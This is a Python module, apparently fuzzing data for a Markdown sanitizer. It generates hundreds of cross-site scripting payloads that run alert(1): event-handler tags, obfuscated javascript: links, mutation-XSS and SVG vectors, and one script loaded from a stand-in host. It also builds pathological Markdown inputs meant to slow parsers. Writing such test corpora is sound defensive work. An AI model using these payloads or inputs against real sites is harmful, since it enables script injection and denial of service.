"""Texts that would run in a browser, had one only the chance: each says `alert(1)` in another way.

Made by combining what is known to have worked somewhere: elements and their events, ways to write
`javascript:`, what a second reading of HTML changes (mXSS), and where in Markdown a text may stand.
"""

from itertools import product

RUNS = "alert(1)"
_STARTS = {
    "img": "src=x", "svg": "", "body": "", "iframe": "src=about:blank", "input": "autofocus",
    "details": "open",
    "video": "src=x", "audio": "src=x", "object": "data=x", "embed": "src=x", "math": "", "marquee": "",
    "select": "autofocus", "textarea": "autofocus", "a": "href=#", "form": "", "button": "autofocus",
    "style": "", "link": "rel=stylesheet href=x", "frameset": "", "table": "background=x", "x": "tabindex=1",
}  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover")
_WRITTEN = (
    "<{tag} {rest} {event}={code}>",
    "<{tag}/{rest}/{event}='{code}'/>",
    '"><{tag}\n{rest}\t{event}="{code}">',
)
ELEMENTS = [
    _WRITTEN[number % len(_WRITTEN)].format(tag=tag, rest=rest, event=event, code=RUNS)
    for number, ((tag, rest), event) in enumerate(product(_STARTS.items(), _EVENTS))
]
SCHEMES = [
    f"javascript:{RUNS}", f"JaVaScRiPt:{RUNS}", f"java\tscript:{RUNS}", f"java\nscript:{RUNS}",
    f"java&Tab;script:{RUNS}", f"java&#10;script:{RUNS}", f"&#106;avascript:{RUNS}",
    f"&#x6A&#x61vascript:{RUNS}",
    f"\x01javascript:{RUNS}", f" javascript:{RUNS}", f"javascript&colon;{RUNS}", f"javascript://x%0a{RUNS}",
    f"javascript:/*--></title>*/{RUNS}", f"%6Aavascript:{RUNS}", f"jav\\ascript:{RUNS}",
    f"feed:javascript:{RUNS}",
    f"vbscript:{RUNS}", f"data:text/html,<script>{RUNS}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKQ==",
    f"data:image/svg+xml,<svg onload={RUNS}>", f"view-source:javascript:{RUNS}", f"blob:javascript:{RUNS}",
    f"\u2028javascript:{RUNS}", f"\uff4aavascript:{RUNS}", f"x:expression({RUNS})",
]  # fmt: skip
_LINKS = (
    "[x]({it})",
    "[x](<{it}>)",
    "<{it}>",
    "[x][r]\n\n[r]: {it}",
    "![x]({it})",
    '[x](https://x.example "{it}")',
)
LINKS = [form.format(it=it) for it, form in product(SCHEMES, _LINKS)]
MUTATING = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUNS}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUNS}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUNS}></style>",
    f"<svg><title><![CDATA[</title><script>{RUNS}</script>]]></svg>",
    f"<!--><img src=x onerror={RUNS}>-->", f"<!--!><img src=x onerror={RUNS}>",
    f"<![CDATA[><img src=x onerror={RUNS}>]]>",
    f"<?xml ?><img src=x onerror={RUNS}>", f"</p/><img src=x onerror={RUNS}>",
    f"<table><td><svg><p><style><img src=x onerror={RUNS}>",
    f"<select><template><img src=x onerror={RUNS}></template></select>",
    f"<xmp></xmp><img src=x onerror={RUNS}>",
    f"<plaintext><img src=x onerror={RUNS}>", f"<textarea></textarea><img src=x onerror={RUNS}>",
    f"<listing>&lt;img src=x onerror={RUNS}&gt;</listing>", f"&lt;img src=x onerror={RUNS}&gt;",
    f"&amp;lt;img src=x onerror={RUNS}&amp;gt;", f"&#x3c;script&#x3e;{RUNS}&#x3c;/script&#x3e;",
    f"<img src=x onerror={RUNS}//", f"<<script>{RUNS}//<</script>",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f"<a href='x`' title='`onmouseover={RUNS}'>", f"<p id=\"`><img src=x onerror={RUNS}>\">",
]  # fmt: skip
SVG = [
    f"<svg><script>{RUNS}</script></svg>", f"<svg><script href='data:,{RUNS}' /></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>", f"<svg><set attributeName=onload to={RUNS} />",
    f"<svg><a><animate attributeName=href values=javascript:{RUNS} /><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUNS}>#x' /></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUNS}</script>'></foreignObject></svg>",
    f"<svg><image href=x onerror={RUNS}></svg>", f"<svg><style>@import 'javascript:{RUNS}'</style></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg' onload={RUNS}/>",
    f"<svg><handler type='text/javascript'>{RUNS}</handler>",
]  # fmt: skip
_IMG = f"<img src=x onerror={RUNS}>"
_QUOTE = f'" onmouseover={RUNS} x="'
PLACES = [
    f"```\"><script>{RUNS}</script>\nx\n```", f"```js onload={RUNS}\nx\n```", f"~~~ {_IMG}\nx\n~~~",
    f"    {_IMG}",
    f"`{_IMG}`", f"|{_IMG}|x|\n|-|-|\n|{_IMG}|{_QUOTE}|", f"# {_IMG}", f"> {_IMG}", f"- {_IMG}", f"1. {_IMG}",
    f"@alice{_QUOTE}", f"@alice{_IMG}", f"@{_IMG}", f"@alice\"><script>{RUNS}</script>",
    f"[x](https://x.example '{_QUOTE}')", f"[x](https://x.example \"\\\"{_QUOTE}\")",
    f"![{_IMG}](https://x.example/a.png)",
    f"![x](https://x.example/a.png '{_QUOTE}')", f"[{_IMG}](https://x.example)",
    f"https://x.example/{_QUOTE}",
    f"https://x.example/'onmouseover={RUNS}//", f"<https://x.example/{_QUOTE.replace(' ', '')}>",
    f"www.x.example/{_IMG}",
    f"a@b.example{_QUOTE}", f"mailto:a@b.example{_QUOTE}", f"~~{_IMG}~~", f"**{_IMG}**",
    f"[^1]\n\n[^1]: {_IMG}",
    f"[{_QUOTE}]: https://x.example\n\n[{_QUOTE}]", f"- [ ] {_IMG}", f"<b {_IMG}", f"\\{_IMG}",
    f"${{{RUNS}}}{{{{{RUNS}}}}}",
    f"</title><script>{RUNS}</script>", f"</textarea>{_IMG}", f"</style><script>{RUNS}</script>",
    f"'-{RUNS}-'",
    f"\";{RUNS}//", f"\\\";{RUNS}//", f"</script><script>{RUNS}</script>", f"{{% include {RUNS} %}}",
    f"<script>{RUNS}</script>",
    f"<SCRIPT SRC=//x.example/{RUNS}></SCRIPT>", f"\x3cscript\x3e{RUNS}",
    f"+ADw-script+AD4-{RUNS}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUNS}\uff1c/script\uff1e", f"<base href='javascript:{RUNS}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUNS}'>",
    f"<div style=\"background:url(javascript:{RUNS})\">",
    f"<div hx-on:click={RUNS} hx-get=/ hx-trigger=load>",
    f"<a data-confirm='{_IMG}' hx-vals='js:{RUNS}'>x</a>",
]  # fmt: skip
PAYLOADS = list(dict.fromkeys([*ELEMENTS, *LINKS, *MUTATING, *SVG, *PLACES]))


def pathological(size: int = 100 * 1024) -> dict[str, str]:
    """Texts that take a careless reader of Markdown more than their length: a hundred kilobytes of each."""
    pieces = {
        "brackets": "[", "brackets closed": "[]", "links": "[a](b ", "nested links": "[a](", "images": "![",
        "references": "[a]: b\n", "quotes": "> ", "stars": "*", "stars and words": "*a **b ",
        "underscores": "_a_ __",
        "backticks": "`", "growing backticks": "a`b``", "tildes": "~~a", "tables": "|a",
        "table rows": "|a|b|\n|-|-|\n",
        "lists": "- ", "nested lists": " - a\n", "numbers": "1. ", "headings": "# a\n", "rules": "***\n",
        "fences": "```\n",
        "angles": "<", "tags": "<a ", "comments": "<!-- ", "entities": "&", "long entities": "&#1234567",
        "links of www": "www.a.", "addresses": "a@b.c ", "mentions": "@a ", "hard breaks": "a  \n",
        "escapes": "\\*",
        "emphasis": "**a*", "declarations": "<!A ", "parentheses": "[a](((", "blanks": " \n", "tabs": "\t-",
    }  # fmt: skip
    return {name: (piece * (size // len(piece) + 1))[:size] for name, piece in pieces.items()}
